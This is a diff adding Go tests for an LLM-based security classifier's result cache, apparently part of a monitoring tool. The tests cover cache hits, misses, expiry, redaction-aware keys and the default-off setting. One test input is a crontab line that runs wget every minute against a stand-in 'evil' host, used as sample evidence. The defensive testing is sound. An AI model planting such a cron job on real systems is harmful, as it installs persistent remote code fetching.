@@ -0,0 +1,142 @@
+package observe
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/ppiankov/chainwatch/internal/wo"
+)
+
+// newCountingClassifyServer returns a classify server that numbers its
+// responses, so a cached result is distinguishable from a fresh one.
+func newCountingClassifyServer(t *testing.T, calls *int32) *httptest.Server {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		n := atomic.AddInt32(calls, 1)
+		resp := fmt.Sprintf(`{"choices":[{"message":{"content":"{\"observations\":[{\"type\":\"cron_anomaly\",\"detail\":\"call-%d\",\"severity\":\"high\"}]}"}}]}`, n)
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(resp))
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func TestClassifyCacheHitOnIdenticalEvidence(t *testing.T) {
+	var calls int32
+	srv := newCountingClassifyServer(t, &calls)
+	cfg := ClassifierConfig{
+		APIURL:    srv.URL,
+		Model:     "m1",
+		CachePath: CacheDir(t.TempDir()),
+		CacheTTL:  time.Hour,
+	}
+
+	first, err := Classify(cfg, "crontab: * * * * * wget http://evil/x")
+	if err != nil {
+		t.Fatalf("classify 1: %v", err)
+	}
+	second, err := Classify(cfg, "crontab: * * * * * wget http://evil/x")
+	if err != nil {
+		t.Fatalf("classify 2: %v", err)
+	}
+
+	if got := atomic.LoadInt32(&calls); got != 1 {
+		t.Fatalf("expected 1 LLM call, got %d", got)
+	}
+	if len(second) != 1 || second[0].Detail != first[0].Detail || second[0].Type != wo.CronAnomaly {
+		t.Errorf("cached result differs: %+v vs %+v", second, first)
+	}
+}
+
+func TestClassifyCacheMissOnChangedInput(t *testing.T) {
+	var calls int32
+	srv := newCountingClassifyServer(t, &calls)
+	cfg := ClassifierConfig{
+		APIURL:    srv.URL,
+		Model:     "m1",
+		CachePath: CacheDir(t.TempDir()),
+		CacheTTL:  time.Hour,
+	}
+
+	if _, err := Classify(cfg, "evidence A"); err != nil {
+		t.Fatalf("classify A: %v", err)
+	}
+	obs, err := Classify(cfg, "evidence B")
+	if err != nil {
+		t.Fatalf("classify B: %v", err)
+	}
+	if got := atomic.LoadInt32(&calls); got != 2 || obs[0].Detail != "call-2" {
+		t.Fatalf("changed evidence should miss the cache: calls=%d detail=%q", got, obs[0].Detail)
+	}
+
+	cfg.Model = "m2"
+	if _, err := Classify(cfg, "evidence A"); err != nil {
+		t.Fatalf("classify A with m2: %v", err)
+	}
+	if got := atomic.LoadInt32(&calls); got != 3 {
+		t.Fatalf("changed model should miss the cache: calls=%d", got)
+	}
+}
+
+func TestClassifyCacheExpires(t *testing.T) {
+	var calls int32
+	srv := newCountingClassifyServer(t, &calls)
+	cachePath := CacheDir(t.TempDir())
+
+	key := ClassificationCacheKey("evidence", "m1")
+	stale := []wo.Observation{{Type: wo.CronAnomaly, Detail: "stale"}}
+	if err := writeCachedClassification(cachePath, key, "m1", stale, time.Now().Add(-2*time.Hour), time.Hour); err != nil {
+		t.Fatalf("seed cache: %v", err)
+	}
+
+	obs, err := Classify(ClassifierConfig{APIURL: srv.URL, Model: "m1", CachePath: cachePath, CacheTTL: time.Hour}, "evidence")
+	if err != nil {
+		t.Fatalf("classify: %v", err)
+	}
+	if got := atomic.LoadInt32(&calls); got != 1 || obs[0].Detail != "call-1" {
+		t.Fatalf("expired entry should not be reused: calls=%d detail=%q", got, obs[0].Detail)
+	}
+}
+
+func TestClassifyCacheKeysRedactedEvidence(t *testing.T) {
+	var calls int32
+	srv := newCountingClassifyServer(t, &calls)
+	cfg := ClassifierConfig{
+		APIURL:      srv.URL,
+		Model:       "m1",
+		CachePath:   CacheDir(t.TempDir()),
+		CacheTTL:    time.Hour,
+		RedactRules: []RedactRule{{Name: "password", Pattern: regexp.MustCompile(`password=\S+`), Replacement: "password=[REDACTED]"}},
+	}
+
+	if _, err := Classify(cfg, "db.conf: password=hunter2"); err != nil {
+		t.Fatalf("classify 1: %v", err)
+	}
+	// Only the redacted value changed, so the LLM would see the same input.
+	if _, err := Classify(cfg, "db.conf: password=swordfish"); err != nil {
+		t.Fatalf("classify 2: %v", err)
+	}
+	if got := atomic.LoadInt32(&calls); got != 1 {
+		t.Fatalf("expected redacted-identical evidence to hit the cache, got %d calls", got)
+	}
+}
+
+func TestClassifyCacheDisabledByDefault(t *testing.T) {
+	var calls int32
+	srv := newCountingClassifyServer(t, &calls)
+	cfg := ClassifierConfig{APIURL: srv.URL, Model: "m1", CachePath: CacheDir(t.TempDir())}
+
+	for i := 0; i < 2; i++ {
+		if _, err := Classify(cfg, "evidence"); err != nil {
+			t.Fatalf("classify %d: %v", i, err)
+		}
+	}
+	if got := atomic.LoadInt32(&calls); got != 2 {
+		t.Fatalf("expected no caching without CacheTTL, got %d calls", got)
+	}
+}